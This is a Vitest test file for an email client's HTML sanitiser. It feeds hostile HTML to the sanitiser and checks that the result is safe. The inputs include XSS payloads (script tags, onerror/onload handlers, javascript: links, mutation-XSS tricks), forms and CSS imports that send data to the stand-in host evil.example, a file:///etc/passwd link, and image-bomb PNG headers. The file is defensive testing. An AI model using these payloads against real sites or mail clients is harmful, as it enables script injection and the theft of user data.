// @vitest-environment jsdom
// Hostile letters are harmless before they are shown.
import { describe, expect, it } from 'vitest';
import { cleanLetter } from '../../../../../renderer/features/message/clean-letter';
import { letterPage, lightPaper } from '../../../../../renderer/features/message/letter-page';

const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB';

describe('a letter from outside', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v"></video>',
    '<body onload="alert(1)" background="https://evil.example/b.png">x</body>',
    '<p style="background:url(https://evil.example/b.png)">x</p>',
    '<style>@import "https://evil.example/x.css"; p { background: url(//evil.example/y) }</style><p>x</p>',
    '<style>p { background: u\\72l(https://evil.example/y) }</style><p style="background:\\55 rl(//evil.example/z)">x</p>',
    '<style><@import;/style><form action=https://evil.example><input></style>x',
    '<a href="file:///etc/passwd">x</a>',
    '<a ping="https://evil.example" href="https://fine.example">x</a>',
  ])('does nothing by itself: %s', (hostile) => {
    const { html } = cleanLetter(hostile);
    expect(html).not.toMatch(/script|onerror|onload|<iframe|<object|<form|<input|<button|<meta|<base|<link|<video|evil\.example|file:/i);
  });

  it('makes no @import of two halves', () => {
    expect(cleanLetter('<style>@im@import x;port "https://evil.example/x.css";</style>').html).not.toMatch(/@import/i);
  });

  it('keeps its words, its own pictures, and its links', () => {
    const { html, blocked } = cleanLetter(`<p>Dear <b>Anna</b></p><img src="${pixel}" alt="roof"><a href="https://example.org/a">page</a>`);
    expect(html).toContain('<b>Anna</b>');
    expect(html).toContain(`src="${pixel}"`);
    expect(html).toContain('href="https://example.org/a"');
    expect(html).toContain('title="https://example.org/a"');
    expect(cleanLetter('<table width="600" bgcolor="#fff"></table>').html).toBe('<table width="600" bgcolor="#fff"></table>');
    expect(blocked).toBe(0);
  });

  it('counts the pictures that it would have loaded', () => {
    const { html, blocked } = cleanLetter(
      '<img src="https://a.example/1.png"><img src="//a.example/2.png"><table background="http://a.example/3.png"></table><p style="background-image:url(\'https://a.example/4.png\')">x</p>',
    );
    expect(blocked).toBe(4);
    expect(html).not.toContain('a.example');
    expect(cleanLetter('<p>plain</p>').blocked).toBe(0);
  });

  it('takes no document for a picture', () => {
    expect(cleanLetter('<img src="data:image/svg+xml,<svg onload=alert(1)>">').html).not.toContain('svg');
    expect(cleanLetter('<img src="data:text/html,x">').html).not.toContain('text/html');
  });

  it('leaves out pictures that unfold to more than a computer bears, each by itself and all together', () => {
    const picture = (side: number): string => {
      const octets = [
        0x89,
        ...Buffer.from('PNG\r\n\x1a\n'),
        0,
        0,
        0,
        13,
        ...Buffer.from('IHDR'),
        0,
        0,
        side >> 8,
        side & 255,
        0,
        0,
        side >> 8,
        side & 255,
      ];
      return `<img alt="x" src="data:image/png;base64,${Buffer.from(octets).toString('base64')}">`;
    };
    const one = cleanLetter(picture(30_000));
    expect([one.huge, one.html]).toEqual([1, '<img alt="x">']);
    const many = cleanLetter(picture(7000).repeat(20)); // 49 million each
    expect([many.huge, many.html.match(/src=/g)?.length]).toEqual([10, 10]);
    expect(cleanLetter(picture(16)).huge).toBe(0);
    expect(cleanLetter(picture(30_000).replace('data:', '&#100;ata&colon;').replace('base64,', ' base64 ,\n')).html).not.toContain('src');
  });

  it('is shown on light paper when it brings colours, in the colours of the program when it does not', () => {
    expect(cleanLetter('<p style="color:#333">x</p>').hasOwnColours).toBe(true);
    expect(cleanLetter('<table bgcolor="#fff"><tr><td>x</td></tr></table>').hasOwnColours).toBe(true);
    expect(cleanLetter('<p>A letter about colour: blue</p>').hasOwnColours).toBe(false);
  });

  it('shows pictures of the store in a letter of one’s own, and in nobody else’s', () => {
    const html = `<img alt="x" src="app://brevduva/picture/${'a'.repeat(64)}">`;
    expect(cleanLetter(html, true).html).toContain('src="app://brevduva/picture/');
    expect(cleanLetter(html).html).not.toContain('src');
    expect(cleanLetter('<img alt="x" src="app://brevduva/index.html">', true).html).not.toContain('src');
    expect(cleanLetter('<img alt="x" src="https://example.org/a.png">', true)).toMatchObject({ html: '<img alt="x">', blocked: 1 });
  });

  it('is shown under a policy that loads nothing', () => {
    const page = letterPage('<p>x</p>', { colours: lightPaper, isTurnedRound: false, hasOwnPictures: false });
    expect(page).toContain("default-src 'none'; img-src data:; style-src 'unsafe-inline'");
  });
});
